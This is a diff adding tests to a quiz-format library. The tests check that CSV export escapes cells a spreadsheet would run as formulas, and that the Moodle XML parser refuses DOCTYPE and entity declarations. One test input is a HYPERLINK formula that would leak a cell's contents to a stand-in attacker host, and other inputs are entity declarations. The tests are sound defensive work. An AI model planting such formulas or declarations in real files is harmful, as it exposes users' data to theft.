@@ -1,4 +1,5 @@
 import fs from 'node:fs';
+import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { parseAiken } from './aiken.js';
 import { parseTemplateCsv, parseTemplateXlsx, TEMPLATE_COLUMNS, writeTemplateCsv, writeTemplateXlsx } from './csv-template.js';
@@ -125,6 +126,20 @@ describe('round trips: export, import, the same content in both languages', () =
     expect(questionsOf(parseTemplateCsv(csv))).toEqual(ROUND_TRIP);
   });
 
+  it('CSV with cells a spreadsheet would run as formulas: written with a leading quote, read back as they were', () => {
+    const base = EXAMPLE_QUESTIONS[0]!;
+    const tricky = ['=HYPERLINK("http://evil.example/?leak="&C2,"x")', '+1+2', '-5', '@SUM(A1)', '-1 is the title', "'=quoted already", "it's fine"];
+    const question: FormatQuestion = {
+      ...base,
+      draft: { ...base.draft, texts: { en: { ...base.draft.texts.en!, data: tricky[0]!, hint: tricky[1]!, explanation: tricky[2]!, instructions: tricky[3]!, title: tricky[4]!, answerTitle: tricky[5]!, options: base.draft.texts.en!.options?.map((o, i) => (i === 0 ? { ...o, answerData: tricky[6]! } : o)) } } },
+    };
+    const csv = writeTemplateCsv([question]);
+    const cells = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data.flat();
+    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(cells).toContain("''=quoted already");
+    expect(questionsOf(parseTemplateCsv(csv))).toEqual([question]);
+  });
+
   it('XLSX', async () => {
     const xlsx = await writeTemplateXlsx(ROUND_TRIP);
     expect(detectFormat(xlsx)).toBe('xlsx');
@@ -195,6 +210,14 @@ describe('Moodle XML', () => {
     expect(error).toBeInstanceOf(UnreadableFileError);
     expect((error as UnreadableFileError).line).toBe(5);
     expect((error as UnreadableFileError).reason.en).toContain("closing tag 'name'");
+  });
+
+  it('refuses DOCTYPE and entity declarations, but reads such words inside CDATA and comments', () => {
+    const quiz = (prolog: string, text: string) => `<?xml version="1.0"?>${prolog}<quiz><!-- <!DOCTYPE in a comment --><question type="essay"><name><text>n</text></name><questiontext format="html"><text>${text}</text></questiontext></question></quiz>`;
+    expect(() => parseMoodleXml(quiz('<!DOCTYPE quiz [<!ENTITY b "bee">]>', '&b;'))).toThrow(UnreadableFileError);
+    expect(() => parseMoodleXml(quiz('', '<!ENTITY b "bee">'))).toThrow(UnreadableFileError);
+    const [item] = parseMoodleXml(quiz('', '<![CDATA[<p>HTML starts with <!DOCTYPE html></p>]]>'));
+    expect(item!.question!.draft.texts.en?.data).toContain('<!DOCTYPE html>');
   });
 
   it('reports a picture that is missing from the file and keeps only the first picture', () => {
